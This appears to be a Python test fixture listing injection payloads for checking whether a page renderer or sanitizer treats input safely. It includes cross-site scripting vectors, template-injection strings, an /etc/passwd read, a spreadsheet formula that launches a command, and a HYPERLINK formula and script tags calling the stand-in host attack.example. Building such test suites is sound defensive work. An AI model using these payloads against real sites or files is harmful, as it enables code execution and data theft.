"""Strings that would do harm in a page which took them for anything but text, by the way in which they try."""

from __future__ import annotations

RAN = "document.title='RAN'"  # what a payload does when it runs: a browser test looks at the title

PAYLOADS = {
    # scripts
    "script": f"<script>{RAN}</script>",
    "script, odd case": f"<ScRiPt >{RAN}</sCrIpT\t>",
    "script, end of another": f"</script><script>{RAN}</script>",
    "script, end of title": f"</title><script>{RAN}</script>",
    "script, end of style": f"</style><script>{RAN}</script>",
    "script, end of pre and code": f"</code></pre><script>{RAN}</script>",
    "script, split tag": f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    "script, from elsewhere": '<script src="https://attack.example/x.js"></script>',
    "script, module": f'<script type="module">{RAN}</script>',
    "script, data address": f"<script src=\"data:text/javascript,{RAN}\"></script>",
    # attributes
    "attribute, double quote": f'" onmouseover="{RAN}" x="',
    "attribute, single quote": f"' onfocus='{RAN}' autofocus tabindex=1 x='",
    "attribute, no quote": f"x onload={RAN} y",
    "attribute, back quote": f"`onclick=`{RAN}",
    "image error": f'<img src=x onerror="{RAN}">',
    "image error, slash": f"<img/src=x/onerror={RAN}>",
    "details toggle": f'<details open ontoggle="{RAN}">x</details>',
    "body load": f'<body onload="{RAN}">',
    "input focus": f'<input autofocus onfocus="{RAN}">',
    "video source error": f'<video><source onerror="{RAN}"></video>',
    "entity in handler": '<a onclick="document&#46;title=&#39;RAN&#39;">x</a>',
    # addresses
    "address": f'<a href="javascript:{RAN}">x</a>',
    "address, tabs and entities": '<a href="java&#9;script&colon;document.title=1">x</a>',
    "address, data": f'<a href="data:text/html,<script>{RAN}</script>">x</a>',
    "address, vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "address, no scheme": '<a href="//attack.example/share">x</a><a href="\\\\attack.example\\share">y</a>',
    "frame": f'<iframe src="javascript:{RAN}" srcdoc="<script>parent.{RAN}</script>"></iframe>',
    "object and embed": '<object data="https://attack.example/x.swf"></object><embed src="https://attack.example/x">',
    "base": '<base href="https://attack.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://attack.example/">',
    "link": '<link rel="stylesheet" href="https://attack.example/x.css">',
    "form": '<form action="https://attack.example/"><button formaction="javascript:alert(1)">x</button></form>',
    # style sheets
    "style": '<style>body{background:url("https://attack.example/x")}</style>',
    "style attribute": '<p style="position:fixed;inset:0;background:url(https://attack.example/x)">x</p>',
    "style import": '<style>@import "https://attack.example/x.css";</style>',
    # drawings
    "svg load": f'<svg onload="{RAN}"><circle r="1"/></svg>',
    "svg script": f"<svg><script>{RAN}</script></svg>",
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{RAN}"/><text y="20">x</text></a></svg>',
    "svg use": '<svg><use href="https://attack.example/x.svg#a"/></svg>',
    "svg paint": '<svg><path fill="url(#a) url(https://attack.example/x)" stroke="\\75rl(//attack.example/x)" d="M0 0"/></svg>',
    "svg foreign object": f'<svg><foreignObject><img src=x onerror="{RAN}"></foreignObject></svg>',
    "mathml": f'<math><mtext><mglyph><style><img src=x onerror="{RAN}"></style></mglyph></mtext></math>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RAN}>"></noscript>',
    # comments and sections
    "comment": f"--><script>{RAN}</script><!--",
    "comment, odd end": f"<!--><script>{RAN}</script>--!>",
    "cdata": f"]]><script>{RAN}</script><![CDATA[",
    "processing instruction": f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a '{RAN}'>]>&a;",
    # templates and formats
    "template, braces": "{{ 7*7 }}{{ config.__class__.__init__.__globals__ }}",
    "template, statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "format string": "{0.__class__.__mro__} {} %s %(x)s ${x} $(id)",
    "mathtext": r"$\frac{x$ and $\input{/etc/passwd}$",
    # markdown
    "markdown link": f"[x](javascript:{RAN})",
    "markdown reference": f"[x]\n\n[x]: javascript:{RAN}",
    "markdown image": "![x](https://attack.example/x.png)",
    "markdown autolink": f"<javascript:{RAN}>",
    "markdown html": f'# x\n\n<div onclick="{RAN}">x</div>\n\n```html\n</code></pre><script>{RAN}</script>\n```',
    # signs that are not seen
    "bidi": "abc\u202egpj.exe\u2066 \u2069",
    "zero width": "<scr\u200bipt>\u2060\ufeff</scr\u200bipt>",
    "controls": "a\x00b\x08c\x1bd\x7fe\x85f",
    "surrogate": "a\ud800b",
    "full-width": f"＜script＞{RAN}＜/script＞",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # the policy itself
    "policy": "'unsafe-inline' *; script-src * 'unsafe-eval'",
    "policy, second": "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src * 'unsafe-inline'\">",
    "policy, nonce": f"<script nonce=x>{RAN}</script>",
    # data inside pages and tables
    "json": f'"}}</script><script>{RAN}</script>{{"x":"',
    "json, signs": "\u2028\u2029\\u003cscript\\u003e",
    "formula": '=HYPERLINK("https://attack.example/?"&A1,"x")',
    "formula, command": "=cmd|' /C calc'!A0",
    "clobbering": '<a id="main" name="body">x</a><a id="theme" name="documentElement">y</a>',
}  # fmt: skip
